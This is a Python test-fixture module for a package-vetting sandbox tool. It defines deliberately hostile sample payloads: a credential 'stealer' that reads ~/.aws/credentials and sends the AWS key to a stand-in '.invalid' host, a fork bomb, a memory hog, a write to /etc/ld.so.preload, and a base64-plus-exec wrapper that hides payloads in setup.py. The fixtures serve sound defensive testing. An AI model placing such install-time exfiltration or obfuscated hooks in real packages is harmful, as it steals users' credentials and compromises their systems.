"""Inert fixtures for the sandbox tests: hostile *behaviours* with nothing behind them.

They are built by the tests and only ever installed inside the sandbox container. The
"stealer" reads the length of ~/.aws/credentials, runs `id` and connects to a `.invalid`
host (RFC 6761: never resolves outside the sandbox); the rest exhaust the container's own
limits (processes, memory, time) or try to write to /etc.
"""

from __future__ import annotations

import base64
import json
import os
import warnings
from pathlib import Path
from typing import Any

import pytest

from builders import BENIGN_SETUP, make_sdist, make_wheel
from pkgvet.sandbox import SandboxSettings, SandboxUnavailable, check_ready, engine
from pkgvet.sandbox.runner import Outcome, run
from pkgvet.sources.local import local_artifact

IMAGE = os.environ.get("PKGVET_SANDBOX_IMAGE", engine.IMAGE)

STEALER = '''\
import os
import socket
import subprocess


def _collect():
    try:
        with open(os.path.expanduser("~/.aws/credentials")) as fh:
            size = len(fh.read())
    except OSError:
        size = -1
    subprocess.run(["id"], capture_output=True)
    key = os.environ.get("AWS_ACCESS_KEY_ID", "")
    try:
        with socket.create_connection(("exfil.pkgvet-test.invalid", 443), timeout=3) as conn:
            conn.sendall(("size=%d key=%s" % (size, key)).encode())
    except OSError:
        pass


_collect()
'''

# Each child stays alive by blocking on a signal, not on a timer: the sandbox cuts long timer
# waits short (outwaiting), which would end sleeping children before they pile up.
FORK_STORM = '''\
import os
import signal

try:
    for _ in range(100000):
        if os.fork() == 0:
            signal.pause()
            os._exit(0)
except OSError:
    pass
'''

ENDLESS = "while True:\n    pass\n"

MEMORY_HOG = "hog = [b'x' * (100 * 2**20) for _ in range(100)]\n"

WRITES_ETC = '''\
try:
    with open("/etc/ld.so.preload", "w") as fh:
        fh.write("/tmp/hook.so\\n")
except OSError:
    pass
'''

IMPORT_TIME = '''\
import subprocess

subprocess.run(["whoami"], capture_output=True)
'''


def _setup(payload: str, name: str) -> str:
    return payload + "\n" + BENIGN_SETUP.format(name=name, version="1.0")


def sdist(dest: Path, name: str, payload: str, *, hidden: bool = False) -> Path:
    """An sdist whose setup.py runs `payload` at install time (base64+exec when hidden)."""
    if hidden:
        encoded = base64.b64encode(payload.encode()).decode()
        payload = f"import base64\nexec(base64.b64decode('{encoded}'))\n"
    return make_sdist(dest, name, "1.0", {
        "setup.py": _setup(payload, name),
        f"{name.replace('-', '_')}/__init__.py": "",
    })


def wheel(dest: Path, name: str, init: str) -> Path:
    """A wheel whose package runs `init` when imported."""
    return make_wheel(dest, name, "1.0", {f"{name}/__init__.py": init})


def require_sandbox(settings: SandboxSettings, runtime: str | None = None) -> None:
    """Skip the test, with a warning, unless a container can start with `settings` (engine,
    image, runtime); fail it instead when PKGVET_REQUIRE_SANDBOX is set (CI)."""
    try:
        check_ready(settings)
    except SandboxUnavailable as exc:
        under = f" under {runtime}" if runtime else ""
        message = f"SANDBOX TESTS NOT RUN{under}: {exc}"
        if os.environ.get("PKGVET_REQUIRE_SANDBOX"):
            pytest.fail(message)
        warnings.warn(message, stacklevel=2)
        pytest.skip(message)


def run_sdist(tmp_path: Path, runtime: str, name: str, payload: str) -> Outcome:
    """Run `sdist(name, payload)` through the sandbox under `runtime` (install, then import),
    in a real container. Skips (with a warning) when no engine, image or runtime is ready,
    and fails instead when PKGVET_REQUIRE_SANDBOX is set (CI)."""
    require_sandbox(SandboxSettings(image=IMAGE, runtime=runtime), runtime)
    house = tmp_path / "wheelhouse"
    house.mkdir(exist_ok=True)
    settings = SandboxSettings(wheelhouse=house, install_seconds=60.0, import_seconds=20.0,
                               runtime=runtime, image=IMAGE)
    return run(local_artifact(sdist(tmp_path, name, payload)), settings)


def first_sent(outcome: Outcome, starts: str) -> dict[str, Any]:
    """The first JSON object the package sent to the sink on port 80 whose text begins with
    `starts` (what a fixture reports of what it saw inside the sandbox); fails, listing
    what the sink received, when there is none."""
    sent = [json.loads(r["data"]) for r in outcome.records
            if r.get("type") == "sink" and r.get("port") == 80
            and str(r.get("data", "")).startswith(starts)]
    assert sent, [r for r in outcome.records if r.get("type") == "sink"]
    return sent[0]
